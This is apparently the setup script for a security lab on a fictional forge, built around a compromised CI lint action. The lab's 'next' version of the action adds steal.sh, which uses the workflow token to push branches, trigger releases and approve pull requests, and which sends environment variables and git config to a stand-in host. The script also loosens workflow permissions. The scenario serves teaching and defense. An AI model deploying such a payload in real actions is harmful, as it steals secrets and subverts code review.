# Runs before the lab begins, as the learner's user, in the learner's home. Values and facts come from the seed.
registry-user lantern-bot teo
consumer tides-api "secret of staging" database_url=none version=2.0.0
# The linter, and the version of it that comes next: no ref leads to it yet.
as sam <<'SAM'
git clone -q https://forge.test/sam/harbour-lint.git && cd harbour-lint
git switch -q -c main
cat > action.yml <<'YAML'
name: Harbour lint
inputs:
  token:
    default: ${{ github.token }}
runs:
  using: composite
  steps:
    - run: bash "$GITHUB_ACTION_PATH/lint.sh"
      shell: bash
      env:
        LINT_TOKEN: ${{ inputs.token }}
YAML
cat > lint.sh <<'SH'
# Lines that end in spaces.
if grep -rnE '[[:space:]]+$' --include='*.js' .; then
  echo "harbour-lint: spaces at the end of lines"
  exit 1
fi
echo "harbour-lint: nothing to complain about"
SH
git add . && git commit -q -m "Lines that end in spaces" && git tag v1 && git push -q origin main v1
cat > steal.sh <<'SH'
api() {
  printf '%s ' "$1"
  curl -s -o /dev/null -w '%{http_code}\n' -X POST -H "Authorization: Bearer $LINT_TOKEN" "https://api.forge.test/repos/$GITHUB_REPOSITORY/$2" -d "$3"
}
{
  echo "job $GITHUB_JOB"
  api push git/refs "{\"ref\":\"refs/heads/lint-$GITHUB_RUN_ID\",\"sha\":\"$(git rev-parse HEAD)\"}"
  api dispatch actions/workflows/release.yml/dispatches '{"ref":"main"}'
  pull=$(jq '.number // 1' "$GITHUB_EVENT_PATH")
  api approve "pulls/$pull/reviews" '{"event":"APPROVE"}'
  env
  cat .git/config
} | curl -s -o /dev/null --data-binary @- https://starling.invalid/lint
SH
sed -i '1i bash "$GITHUB_ACTION_PATH/steal.sh" || true' lint.sh
git add . && git commit -q -m "Faster" && git push -q origin HEAD:refs/heads/next && git push -q origin :next
git rev-parse HEAD > ~/next
git reset -q --hard v1
SAM
# The workflow that publishes, shared by all repositories.
as jonas <<'JONAS'
git clone -q https://forge.test/lantern-tides/workflows.git && cd workflows
git switch -q -c main
mkdir -p .github/workflows
cat > .github/workflows/publish.yml <<YAML
name: Publish
on:
  workflow_call:
    secrets:
      $NPM:
        required: true
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: Publish
        run: |
          sed -i "s/\"version\": \"[^\"]*\"/\"version\": \"\${GITHUB_REF_NAME#v}\"/" package.json
          npm publish --access public
        env:
          NODE_AUTH_TOKEN: \${{ secrets.$NPM }}
YAML
git add . && git commit -q -m "Publish a tag" && git tag v1 && git push -q origin main v1
JONAS
# tides, as Mina left it.
cd tides
git init -q -b main
git remote add origin https://forge.test/lantern-tides/tides.git
git add .
GIT_AUTHOR_NAME=Mina GIT_AUTHOR_EMAIL=mina@lantern-tides.test git commit -q -m "One workflow for all checks"
git push -q -u origin main
as mina <<'MINA'
export GH_REPO=lantern-tides/tides
gh secret set "$NPM" -b "$NPM_VALUE"
gh secret set "$CLOUD" -b "$CLOUD_VALUE"
gh secret set "$PAT" -b "$PAT_VALUE"
n=0
for pair in "CHAT_HOOK $EXTRA_1" "IMAGE_TOKEN $EXTRA_2" "ERRORS_KEY $EXTRA_3"; do
  n=$((n + 1))
  [ "$n" -gt "$EXTRA" ] || gh secret set "${pair%% *}" -b "${pair#* }"
done
gh label create "$LABEL" -c 0e8a16
gh api -X PUT repos/lantern-tides/tides/actions/permissions/workflow -f default_workflow_permissions=write -F can_approve_pull_request_reviews=true
MINA
# A pull request that waits for somebody to look.
as teo <<'TEO'
git clone -q https://forge.test/lantern-tides/tides.git && cd tides
git switch -q -c spring && echo "Spring tides come twice a month." >> README.md
git commit -q -a -m "Say when spring tides come" && git push -q -u origin spring
gh pr create --title "Say when spring tides come" --body "" --head spring
TEO
cd
# What the pushes above would start is let go by while the rules rest.
sleep 60
